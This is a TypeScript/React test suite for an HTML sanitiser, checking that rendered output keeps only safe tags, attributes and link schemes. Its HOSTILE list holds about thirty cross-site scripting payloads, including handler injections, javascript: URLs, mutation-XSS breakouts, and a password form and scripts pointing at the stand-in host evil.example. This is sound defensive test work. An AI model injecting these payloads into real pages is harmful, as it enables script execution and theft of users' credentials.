import { render } from '@testing-library/react';
import { Prose } from './prose';
import { sanitise } from './sanitise';

/** Each would act, load, submit, restyle or deceive if it reached the page as it is. */
const HOSTILE: [what: string, html: string][] = [
  ['a script', '<script>window.hit = 1</script>'],
  ['a script in upper case', '<SCRIPT SRC=//evil.example/x.js></SCRIPT>'],
  ['an image that fails', '<img src=x onerror="window.hit = 1">'],
  ['an image of a foreign host', '<img src="https://evil.example/pixel.gif">'],
  ['a drawing that loads', '<svg onload="window.hit = 1"></svg>'],
  ['a script in a drawing', '<svg><script>window.hit = 1</script></svg>'],
  ['an animated link', '<svg><a><animate attributeName=href values=javascript:hit=1 /></a></svg>'],
  ['a frame', '<iframe src="https://evil.example"></iframe>'],
  ['a frame with a document', '<iframe srcdoc="<script>parent.hit = 1</script>"></iframe>'],
  ['an object', '<object data="javascript:window.hit=1"></object>'],
  ['an embedded thing', '<embed src="https://evil.example/x.swf">'],
  ['a style sheet', '<style>body { display: none }</style>'],
  ['a linked style sheet', '<link rel=stylesheet href=https://evil.example/x.css>'],
  ['a style', '<p style="position:fixed;inset:0">x</p>'],
  [
    'a form',
    '<form action="https://evil.example"><input name=password><button>Login</button></form>',
  ],
  ['a script address', '<a href="javascript:window.hit=1">x</a>'],
  ['a script address in disguise', '<a href="jAvA&#x09;script&#58;window.hit=1">x</a>'],
  ['a script address after a control character', '<a href="&#1;javascript:window.hit=1">x</a>'],
  ['a data address', '<a href="data:text/html,<script>window.hit=1</script>">x</a>'],
  ['a vbscript address', '<a href="vbscript:msgbox(1)">x</a>'],
  ['a handler on text', '<p onclick="window.hit = 1" onpointerover=hit=1>x</p>'],
  ['a handler without quotes', '<b/onmouseover=window.hit=1>x</b>'],
  ['a base', '<base href="https://evil.example/">'],
  ['a refresh', '<meta http-equiv=refresh content="0;url=https://evil.example">'],
  ['a clobbering id', '<a id=portal name=config href=/x>x</a>'],
  ['a class of ours', '<p class="toast error">Your account is locked</p>'],
  ['a template', '<template><img src=x onerror=window.hit=1></template>'],
  ['formulas that break out', '<math><mtext><table><mglyph><style><img src=x onerror=hit=1>'],
  ['a comment that breaks out', '<!--><img src=x onerror=window.hit=1>-->'],
  ['no script', '<noscript><p title="</noscript><img src=x onerror=window.hit=1>"></noscript>'],
  ['a text area that breaks out', '<textarea></textarea><img src=x onerror=window.hit=1>'],
  ['an element of one’s own', '<x-evil is=x-evil onfocus=hit=1 tabindex=1 autofocus>x</x-evil>'],
  ['a video', '<video src=x onerror=window.hit=1><source onerror=window.hit=1></video>'],
  ['an opened disclosure', '<details open ontoggle=window.hit=1>x</details>'],
];

const HARMLESS_TAGS = new Set(['div', 'p', 'a', 'b', 'table', 'tbody', 'tr', 'td']);
const HARMLESS_ATTRIBUTES = new Set(['href', 'rel', 'class', 'title']);

test.each(HOSTILE)('%s comes out inert', (_, html) => {
  const { container } = render(<Prose content={sanitise(html)} title="Policy" />);
  for (const element of container.querySelectorAll('*')) {
    expect(HARMLESS_TAGS).toContain(element.localName);
    for (const { name } of element.attributes) expect(HARMLESS_ATTRIBUTES).toContain(name);
  }
  for (const link of container.querySelectorAll('a[href]')) {
    expect(link.getAttribute('href')).toMatch(/^(?:https?:|mailto:|tel:|\/)/);
  }
  expect(container.innerHTML).not.toMatch(/toast/);
  expect(window).not.toHaveProperty('hit');
});

test('what is harmless around it stays', () => {
  const { container } = render(
    <Prose
      content={sanitise('<p>Before<script>1</script> <b onclick=x>after</b></p>')}
      title="x"
    />,
  );
  expect(container).toHaveTextContent('Before after');
});
